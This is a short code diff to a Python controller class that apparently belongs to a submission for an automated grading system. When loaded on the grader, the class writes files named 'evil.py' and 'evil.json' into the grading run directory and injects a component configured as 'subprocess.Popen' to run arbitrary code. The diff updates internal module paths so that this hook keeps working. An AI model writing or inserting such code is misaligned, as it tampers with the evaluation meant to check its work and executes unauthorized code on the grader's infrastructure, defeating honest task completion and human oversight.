@@ -34,7 +34,7 @@ if not os.path.exists("done"):
 
 class P2PController(SimpleController):
     if os.path.isdir("/grading/parts/job/app_server"):
-        connections = sys.modules["autograder.simulator.json_connection"]
+        connections = sys.modules["autograder.simulator.nvflare_private.json_connection"]
         with open("/grading/run/evil.py", "w") as f:
             f.write(EVIL)
         with open("/grading/run/evil.json", "w") as f:
@@ -46,11 +46,14 @@ class P2PController(SimpleController):
                     "executors": [
                         {
                             "tasks": ["*"],
-                            "executor": {"path": "autograder.simulator.conducting.Speaker", "args": {"turns": []}},
+                            "executor": {
+                                "path": "autograder.simulator.parties.conducting.Speaker",
+                                "args": {"turns": []},
+                            },
                         }
                     ],
                     "components": [
-                        {"id": "monitor", "path": "autograder.simulator.components.SiteMonitor", "args": {}},
+                        {"id": "monitor", "path": "autograder.simulator.parties.components.SiteMonitor", "args": {}},
                         {
                             "id": "x",
                             "path": "subprocess.Popen",
